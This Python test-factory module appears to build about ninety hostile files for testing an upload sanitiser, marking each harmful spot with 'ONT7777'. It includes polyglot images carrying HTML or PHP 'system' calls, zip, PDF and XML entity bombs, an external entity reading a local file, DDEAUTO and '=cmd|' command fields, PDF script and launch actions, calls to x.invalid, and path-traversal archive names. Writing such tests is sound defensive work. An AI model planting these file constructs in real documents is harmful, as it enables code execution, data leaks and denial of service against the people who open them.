# ruff: noqa: E501
"""Files made to do harm, each with `HARM` where the harm is: it must be gone from whatever is let through."""

import struct
import zlib
from collections.abc import Callable
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile, ZipInfo

import openpyxl
import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.factories import files, telling_files
from tests.factories.telling_files import with_parts

HARM = b"ONT7777"
SCRIPT = b"<script>alert('" + HARM + b"')</script>"
# Put together here, so that no scanner takes this file for what it makes.
EICAR = (r"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR" + "-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*").encode()
CONTENT_TYPES = "[Content_Types].xml"
BOMB = 410_000_000  # bytes that a few hundred kilobytes unpack to
DTD = b'<!DOCTYPE a [<!ENTITY x "ONT7777"><!ENTITY y SYSTEM "file:///hemligt">]>'
LAUGHS = b"<!DOCTYPE a [<!ENTITY a0 'ONT7777'>%s]>" % b"".join(
    b"<!ENTITY a%d '%s'>" % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 12)
)


def encoded(kind: str, **more) -> bytes:
    out = BytesIO()
    telling_files.picture(1).save(out, kind, **more)
    return out.getvalue()


def plain_docx() -> bytes:
    return files.docx("Hej")


def plain_xlsx() -> bytes:
    out = BytesIO()
    book = openpyxl.Workbook()
    book.active["A1"] = "Hej"
    book.save(out)
    return out.getvalue()


def png_of(width: int, height: int, points: bytes) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(points)) + chunk(b"IEND", b"")


def pdf_with(change: Callable[[pikepdf.Pdf], None]) -> bytes:
    with pikepdf.open(BytesIO(files.pdf("Hej"))) as made:
        change(made)
        out = BytesIO()
        made.save(out, static_id=True)
        return out.getvalue()


def action(made: pikepdf.Pdf, **what) -> pikepdf.Object:
    return made.make_indirect(Dictionary(**what))


def run_script(made: pikepdf.Pdf) -> pikepdf.Object:
    return action(made, S=Name.JavaScript, JS=String("app.launchURL('ONT7777')"))


def on_open(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = run_script(made)


def named_script(made: pikepdf.Pdf) -> None:
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("ONT7777"), run_script(made)])))


def launch(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = action(made, S=Name.Launch, F=String("ONT7777.exe"))


def page_script(made: pikepdf.Pdf) -> None:
    made.pages[0].obj[Name.AA] = Dictionary(O=run_script(made))


def link_to_script(made: pikepdf.Pdf) -> None:
    annotation = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 600, 800]), A=run_script(made))
    made.pages[0].obj[Name.Annots] = Array([made.make_indirect(annotation)])


def submit_form(made: pikepdf.Pdf) -> None:
    send = action(made, S=Name.SubmitForm, F=String("https://x.invalid/ONT7777"))
    field = Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("a"), Rect=Array([0, 0, 9, 9]), A=send)
    made.pages[0].obj[Name.Annots] = Array([made.make_indirect(field)])
    made.Root.AcroForm = Dictionary(Fields=made.pages[0].obj.Annots)


def xfa(made: pikepdf.Pdf) -> None:
    made.Root.AcroForm = Dictionary(Fields=Array([]), XFA=made.make_stream(b"<xdp>" + SCRIPT + b"</xdp>"))


def attached(made: pikepdf.Pdf) -> None:
    made.attachments["ONT7777.exe"] = b"MZ" + HARM


def rich_media(made: pikepdf.Pdf) -> None:
    made.pages[0].obj[Name.Annots] = Array(
        [made.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 9, 9]), NM=String("ONT7777")))]
    )


def elsewhere(made: pikepdf.Pdf) -> None:
    stream = made.make_stream(b"q Q")
    stream[Name.F] = String("\\\\ONT7777\\share\\a")
    made.pages[0].obj.Resources[Name.XObject] = Dictionary(A=stream)
    stream.update({"/Type": Name.XObject, "/Subtype": Name.Form, "/BBox": Array([0, 0, 1, 1])})


def flate_bomb(made: pikepdf.Pdf) -> None:
    bomb = pikepdf.Stream(made, zlib.compress(zlib.compress(bytes(BOMB), 1), 9))
    bomb[Name.Filter] = Array([Name.FlateDecode, Name.FlateDecode])
    made.pages[0].contents_add(made.make_indirect(bomb))


def huge_picture(made: pikepdf.Pdf) -> None:
    stream = made.make_stream(b"")
    stream.update({"/Type": Name.XObject, "/Subtype": Name.Image, "/Width": 200_000, "/Height": 200_000})
    made.pages[0].obj.Resources[Name.XObject] = Dictionary(A=stream)


def locked_pdf() -> bytes:
    return files.pdf("ONT7777", password="hemlig")


def package_of(names: dict[str, bytes], *, flags: int = 0) -> bytes:
    out = BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as packed:
        for name, content in names.items():
            packed.writestr(ZipInfo(name), content)
    data = bytearray(out.getvalue())
    if flags:  # say of every part that it is locked
        for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            at = data.find(mark)
            while at >= 0:
                data[at + place] |= flags
                at = data.find(mark, at + 4)
    return bytes(data)


def bomb_docx() -> bytes:
    return with_parts(plain_docx(), {"word/media/big.bin": bytes(BOMB)})


def many_parts() -> bytes:
    return with_parts(plain_docx(), {f"word/media/{number}.png": b"" for number in range(5000)})


def macro_type(of: bytes, main: bytes, macro: bytes) -> bytes:
    return with_parts(of, {"word/vbaProject.bin": HARM}, {CONTENT_TYPES: (main, macro)})


def relation(of: bytes, part: str, line: bytes) -> bytes:
    return with_parts(of, {}, {part: (b"</Relationships>", line + b"</Relationships>")})


def external_template() -> bytes:
    line = b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
    line += b' Target="https://x.invalid/ONT7777.dotm" TargetMode="External"/>'
    return relation(plain_docx(), "word/_rels/document.xml.rels", line)


def body_with(xml: bytes) -> bytes:
    return with_parts(plain_docx(), {}, {"word/document.xml": (b"</w:body>", xml + b"</w:body>")})


def field(instruction: str) -> bytes:
    parts = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    begin, end = parts
    return body_with(f"<w:p>{begin}<w:r><w:instrText>{instruction}</w:instrText></w:r>{end}</w:p>".encode())


def alt_chunk() -> bytes:
    line = b'<Relationship Id="rId98" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk"'
    line += b' Target="/word/chunk.html"/>'
    with_chunk = relation(body_with(b'<w:altChunk r:id="rId98"/>'), "word/_rels/document.xml.rels", line)
    return with_parts(with_chunk, {"word/chunk.html": SCRIPT})


def embedded_object() -> bytes:
    line = b'<Relationship Id="rId97" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject"'
    line += b' Target="embeddings/oleObject1.bin"/>'
    with_object = relation(plain_docx(), "word/_rels/document.xml.rels", line)
    return with_parts(with_object, {"word/embeddings/oleObject1.bin": HARM})


def svg_inside() -> bytes:
    line = b'<Relationship Id="rId96" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"'
    line += b' Target="media/a.svg"/>'
    return with_parts(relation(plain_docx(), "word/_rels/document.xml.rels", line), {"word/media/a.svg": b"<svg>" + SCRIPT})


def sheet_with(formula: str) -> bytes:
    out = BytesIO()
    book = openpyxl.Workbook()
    book.active["A1"] = formula
    book.save(out)
    return out.getvalue()


def with_dtd(of: bytes, part: str, dtd: bytes) -> bytes:
    with ZipFile(BytesIO(of)) as packed:
        content = packed.read(part)
    head, _, rest = content.partition(b"?>")
    return with_parts(of, {part: head + b"?>" + dtd + rest})


def odt_with(more: dict[str, bytes]) -> bytes:
    return with_parts(telling_files.odt(1), more)


WORD_MAIN = b"wordprocessingml.document.main+xml"
XLSX_MAIN = b"spreadsheetml.sheet.main+xml"

HOSTILE: dict[str, Callable[[], bytes]] = {
    # two kinds in one
    "JPEG and HTML": lambda: encoded("JPEG", comment=SCRIPT) + SCRIPT,
    "GIF and JavaScript": lambda: b"GIF89a/*" + encoded("GIF")[8:] + b"*/=1;alert('" + HARM + b"')",
    "GIF and HTML": lambda: encoded("GIF", comment=SCRIPT) + SCRIPT,
    "PNG and PHP": lambda: encoded("PNG") + b"<?php system('" + HARM + b"') ?>",
    "PNG and zip": lambda: encoded("PNG") + files.zip_of(harm=HARM),
    "JPEG and zip": lambda: encoded("JPEG") + files.zip_of(harm=HARM),
    "PDF and HTML": lambda: b"<!--" + SCRIPT + b"-->" + files.pdf("Hej"),
    "PDF and zip": lambda: files.pdf("Hej") + files.zip_of(harm=HARM),
    "WEBP and HTML": lambda: encoded("WEBP") + SCRIPT,
    "DOCX and program": lambda: b"MZ" + HARM + plain_docx(),
    "zip after PDF head": lambda: b"%PDF-1.4\n" + HARM + plain_docx(),
    # bombs
    "PNG bomb": lambda: png_of(30_000, 30_000, bytes(1000)),
    "PNG bomb that unpacks": lambda: png_of(9_000, 9_000, bytes(9_000 * 27_001)),
    "PNG of huge sides": lambda: png_of(2_000_000_000, 2_000_000_000, b""),
    "GIF of huge sides": lambda: b"GIF89a" + struct.pack("<HH", 65535, 65535) + encoded("GIF")[10:],
    "JPEG of huge sides": lambda: jpeg_sides(65500, 65500),
    "PNG text bomb": lambda: png_text_bomb(),
    "zip bomb": lambda: files.zip_of(a=bytes(BOMB)),
    "zip in zip": lambda: files.zip_of(a=files.zip_of(a=files.zip_of(a=bytes(10_000_000)))),
    "DOCX bomb": bomb_docx,
    "DOCX of many parts": many_parts,
    "XLSX bomb": lambda: with_parts(plain_xlsx(), {"xl/worksheets/sheet9.xml": bytes(BOMB)}),
    "ODT bomb": lambda: odt_with({"Pictures/big.png": bytes(BOMB)}),
    "PDF bomb": lambda: pdf_with(flate_bomb),
    "PDF with huge picture": lambda: pdf_with(huge_picture),
    # XML that calls in entities
    "DOCX with entities": lambda: with_dtd(plain_docx(), "word/document.xml", DTD),
    "DOCX with a billion laughs": lambda: with_dtd(plain_docx(), "word/document.xml", LAUGHS),
    "DOCX relations with entities": lambda: with_dtd(plain_docx(), "word/_rels/document.xml.rels", DTD),
    "DOCX types with entities": lambda: with_dtd(plain_docx(), CONTENT_TYPES, DTD),
    "XLSX with entities": lambda: with_dtd(plain_xlsx(), "xl/workbook.xml", DTD),
    "ODT with entities": lambda: with_dtd(telling_files.odt(1), "content.xml", DTD),
    "XML with entities": lambda: b'<?xml version="1.0"?>' + LAUGHS + b"<a>&a11;</a>",
    # macros
    "DOCM": lambda: macro_type(plain_docx(), b"application/vnd.openxmlformats-officedocument." + WORD_MAIN, b"application/vnd.ms-word.document.macroEnabled.main+xml"),
    "DOCX with a macro": lambda: with_parts(plain_docx(), {"word/vbaProject.bin": HARM}),
    "XLSM": lambda: with_parts(plain_xlsx(), {"xl/vbaProject.bin": HARM}, {CONTENT_TYPES: (b"application/vnd.openxmlformats-officedocument." + XLSX_MAIN, b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")}),
    "DOTM": lambda: with_parts(plain_docx(), {}, {CONTENT_TYPES: (b"application/vnd.openxmlformats-officedocument." + WORD_MAIN, b"application/vnd.ms-word.template.macroEnabledTemplate.main+xml")}),
    "XLSX with ActiveX": lambda: with_parts(plain_xlsx(), {"xl/activeX/activeX1.bin": HARM}),
    "ODT with Basic": lambda: odt_with({"Basic/Standard/Module1.xml": HARM}),
    "ODT with Python": lambda: odt_with({"Scripts/python/a.py": HARM}),
    "old Word with macros": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "_VBA_PROJECT".encode("utf-16-le") + HARM,
    # office files that reach out or carry something in
    "DOCX with a template elsewhere": external_template,
    "DOCX that calls DDE": lambda: field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe ONT7777"),
    "DOCX that fetches a picture": lambda: field('INCLUDEPICTURE "https://x.invalid/ONT7777"'),
    "DOCX with a page inside": alt_chunk,
    "DOCX with an object": embedded_object,
    "DOCX with SVG": svg_inside,
    "XLSX that runs a command": lambda: sheet_with("=cmd|'/c ONT7777'!A0"),
    "XLSX that calls home": lambda: sheet_with('=WEBSERVICE("https://x.invalid/ONT7777")'),
    # PDF that acts
    "PDF with script on opening": lambda: pdf_with(on_open),
    "PDF with a named script": lambda: pdf_with(named_script),
    "PDF that starts a program": lambda: pdf_with(launch),
    "PDF with a page's script": lambda: pdf_with(page_script),
    "PDF with a link to a script": lambda: pdf_with(link_to_script),
    "PDF that sends a form": lambda: pdf_with(submit_form),
    "PDF with XFA": lambda: pdf_with(xfa),
    "PDF with a program attached": lambda: pdf_with(attached),
    "PDF with rich media": lambda: pdf_with(rich_media),
    "PDF with content elsewhere": lambda: pdf_with(elsewhere),
    "PDF behind a password": locked_pdf,
    # kinds that run
    "SVG": lambda: b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>",
    "HTML": lambda: b"<!DOCTYPE html>" + SCRIPT,
    "HTML after words": lambda: b"Hej hej\n" + SCRIPT,
    "HTML in UTF-16": lambda: ("\ufeff<html>" + SCRIPT.decode()).encode("utf-16-le"),
    "RTF": lambda: b"{\\rtf1 {\\object\\objocx " + HARM + b"}}",
    "PostScript": lambda: b"%!PS-Adobe-3.0\n(" + HARM + b") run",
    "script for a shell": lambda: b"#!/bin/sh\necho " + HARM,
    "program (Windows)": lambda: b"MZ\x90\0\x03\0\0\0" + HARM,
    "program (Linux)": lambda: b"\x7fELF\x02\x01\x01\0" + HARM,
    "EICAR": lambda: EICAR,
    "EICAR in a DOCX": lambda: with_parts(plain_docx(), {"word/media/eicar.com": EICAR}),
    # archives and names
    "zip that climbs": lambda: package_of({"../../etc/ONT7777": HARM}),
    "DOCX that climbs": lambda: with_parts(plain_docx(), {"../../ONT7777": HARM}),
    "DOCX with a drive": lambda: with_parts(plain_docx(), {"C:\\ONT7777": HARM}),
    "DOCX with one part twice": lambda: with_parts(plain_docx(), {"WORD/document.XML": HARM}),
    "DOCX that says it is locked": lambda: package_of({CONTENT_TYPES: b"<a/>", "word/document.xml": HARM}, flags=1),
    "7z": lambda: b"7z\xbc\xaf\x27\x1c" + HARM,
    "rar": lambda: b"Rar!\x1a\x07\x01\0" + HARM,
    "gzip": lambda: b"\x1f\x8b\x08\0" + HARM,
    "tar": lambda: (b"ONT7777".ljust(257, b"a") + b"ustar  " + bytes(255)),
    # broken
    "0 bytes": lambda: b"",
    "only zeros": lambda: bytes(5000),
    "half a JPEG": lambda: encoded("JPEG")[:900] + b"",
    "half a PNG": lambda: encoded("PNG")[:300],
    "half a DOCX": lambda: plain_docx()[:9000],
    "half an XLSX": lambda: plain_xlsx()[:-40],
    "PDF without pages": lambda: b"%PDF-1.7\n" + HARM + b"\n%%EOF",
    "PDF head in a picture": lambda: b"\xff\xd8\xff\xe0%PDF-1.4 " + HARM,
    "wrong type: text as JPEG": lambda: b"\xff\xd8\xffHej " + HARM,
    "TIFF": lambda: encoded("TIFF") + HARM,
    "BMP": lambda: encoded("BMP") + HARM,
    "ICO": lambda: b"\0\0\1\0\1\0" + HARM,
}  # fmt: skip


def jpeg_sides(width: int, height: int) -> bytes:
    data = bytearray(encoded("JPEG"))
    at = data.find(b"\xff\xc0")
    data[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def png_text_bomb() -> bytes:
    plain = encoded("PNG")
    body = b"Comment\0\0" + zlib.compress(bytes(200_000_000), 9)
    chunk = struct.pack(">I", len(body)) + b"zTXt" + body + struct.pack(">I", zlib.crc32(b"zTXt" + body))
    return plain[:33] + chunk * 3 + plain[33:]
